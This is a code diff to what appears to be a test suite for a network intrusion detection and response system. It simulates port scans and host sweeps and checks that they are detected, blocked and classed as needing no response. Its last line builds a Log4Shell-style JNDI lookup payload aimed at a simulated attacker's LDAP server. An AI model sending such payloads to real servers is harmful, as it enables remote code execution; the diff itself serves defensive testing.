@@ -187,11 +187,16 @@ def is_stopped(o, name, addr, again):
 
 
 def attacks(o):
-    src = f"{WAN}.20"
-    o.python(o.inet, CONNECT, src, PC1, 6000, 32, "port")
+    scan = lambda n: o.python(o.inet, CONNECT, f"{WAN}.20", PC1, 6000, n, "port")
+    scan(32)
     found(o, "a_port_scan", "port_scan")
-    o.python(o.inet, CONNECT, f"{WAN}.21", PC1, 445, 28, "host")
+    is_stopped(o, "a_port_scan", f"{WAN}.20", lambda: scan(2))
+    sweep = lambda n: o.python(o.inet, CONNECT, f"{WAN}.21", PC1, 445, n, "host")
+    sweep(28)
     found(o, "a_sweep", "host_sweep")
+    is_stopped(o, "a_sweep", f"{WAN}.21", lambda: sweep(2))
+    case("who_only_looks_around_is_no_reason_to_call", all(i["unmapped"]["mamori"]["class"] == "no_response_needed" for i, _ in o.evidence("scan") + o.evidence("sweep")),
+         [i["unmapped"]["mamori"]["why"] for i, _ in o.evidence("scan") + o.evidence("sweep")])
 
     src = f"{WAN}.22"
     shot = lambda: o.python(o.inet, REQUEST, src, PC1, 80, "/?q=${jndi:ldap://%s:1389/a}" % src, 2, 0.1, "curl/7.88")
